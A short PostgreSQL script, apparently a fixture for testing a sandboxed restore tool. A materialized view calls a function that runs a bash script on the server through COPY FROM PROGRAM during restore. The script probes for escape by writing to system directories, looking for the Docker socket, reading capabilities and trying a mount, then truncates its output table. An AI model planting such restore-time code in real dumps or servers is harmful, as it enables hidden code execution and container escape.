-- Runs a program on the server while its archive is restored, and keeps what the program said in a table.
CREATE SCHEMA escape;
CREATE TABLE escape.said (line text);
CREATE FUNCTION escape.attempt() RETURNS integer LANGUAGE plpgsql AS $body$
BEGIN
    COPY escape.said FROM PROGRAM 'bash /dev/stdin 2>&1 <<"END"
echo tried
for place in /etc /usr/bin /root /home /pgrehearse/input /pgrehearse/kept; do
    touch "$place/escaped" 2>/dev/null && echo "wrote into $place"
done
echo x 2>/dev/null >>/pgrehearse/input && echo "wrote to the dump"
ls /var/run/docker.sock /run/docker.sock 2>/dev/null
grep -v -e lo: -e Inter -e face /proc/net/dev
grep -E "^Cap(Eff|Prm|Bnd):" /proc/self/status | tr -d "[:space:]"; echo
grep NoNewPrivs /proc/self/status | tr -d "[:space:]"; echo
echo "user $(id -un)"
mount -t tmpfs none /mnt 2>/dev/null && echo "mounted something"
exit 0
END';
    RETURN 1;
END
$body$;
CREATE MATERIALIZED VIEW escape.attempts AS SELECT escape.attempt();
-- What it said here is not to be dumped.
TRUNCATE escape.said;
